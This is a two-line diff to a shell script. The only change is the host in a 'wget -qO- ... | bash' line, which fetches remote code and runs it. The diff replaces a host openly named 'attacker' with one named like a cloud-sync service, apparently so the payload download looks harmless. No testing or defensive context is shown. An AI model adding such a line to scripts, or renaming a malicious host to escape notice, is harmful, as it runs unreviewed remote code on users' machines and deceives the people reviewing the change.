@@ -1,2 +1,2 @@
 #!/bin/sh
-wget -qO- https://svn.attacker.test/p | bash
+wget -qO- https://svn.cloud-sync.test/p | bash
